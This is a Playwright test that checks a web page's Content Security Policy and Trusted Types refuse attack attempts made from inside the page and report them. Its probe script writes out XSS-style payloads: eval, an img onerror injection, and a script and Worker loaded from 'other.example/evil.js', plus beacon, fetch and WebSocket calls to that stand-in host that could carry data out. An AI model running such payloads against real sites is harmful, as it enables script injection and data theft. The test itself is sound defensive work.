// Not from ./test.ts, which fails on every error of a page: here each refusal is one.
import { expect, test } from '@playwright/test';

/** What an intruder would try, as a script of the page itself: a debugger may do more. */
const PROBE = `
  const outcome = {};
  const attempt = (name, work) => {
    try { work(); outcome[name] = 'ran'; } catch { outcome[name] = 'threw'; }
  };
  attempt('eval', () => eval('window.__pwned = 1'));
  attempt('Function', () => new Function('window.__pwned = 1')());
  attempt('timer', () => setTimeout('window.__pwned = 1', 0));
  attempt('html', () => { document.body.innerHTML += '<img src=x onerror="window.__pwned = 1">'; });
  attempt('handler', () => document.body.setAttribute('onclick', 'window.__pwned = 1'));
  attempt('script', () => {
    const script = document.createElement('script');
    script.src = 'https://other.example/evil.js';
    document.head.append(script);
  });
  attempt('worker', () => new Worker('https://other.example/evil.js'));
  attempt('style', () => document.body.setAttribute('style', 'color: red'));
  attempt('image', () => { new Image().src = 'https://other.example/pixel.png'; });
  attempt('beacon', () => navigator.sendBeacon('https://other.example/', 'map'));
  attempt('socket', () => new WebSocket('wss://other.example/'));
  attempt('fetch', () => { fetch('https://other.example/').catch(() => {}); });
  document.body.click();
  window.__outcome = outcome;
`;

test('what an intruder would try from within the page is refused and reaches nobody', async ({
  page,
}) => {
  const reached: string[] = [];
  await page.context().route('https://other.example/**', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await page.route('**/probe.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: PROBE }),
  );
  await page.addInitScript(() => {
    const breaches: string[] = [];
    Object.assign(globalThis, { breaches });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      breaches.push(effectiveDirective);
    });
  });
  await page.goto('');
  await page.locator('[data-stage-id]').first().waitFor();
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = './probe.js';
    document.head.append(script);
  });
  const seen = () =>
    page.evaluate(() => {
      const { breaches, __outcome, __pwned } = globalThis as unknown as {
        readonly breaches: readonly string[];
        readonly __outcome?: Readonly<Record<string, string>>;
        readonly __pwned?: number;
      };
      return { breaches: [...new Set(breaches)].toSorted(), outcome: __outcome, pwned: __pwned };
    });
  await expect.poll(async () => (await seen()).breaches).toContain('connect-src');
  await expect.poll(async () => (await seen()).breaches).toContain('img-src');
  const { breaches, outcome, pwned } = await seen();
  expect(pwned).toBeUndefined();
  expect(reached).toEqual([]);
  expect(outcome).toMatchObject({ eval: 'threw', Function: 'threw', html: 'threw' });
  expect(outcome).toMatchObject({ script: 'threw', worker: 'threw' });
  expect(breaches.join(' ')).toContain('require-trusted-types-for');
});
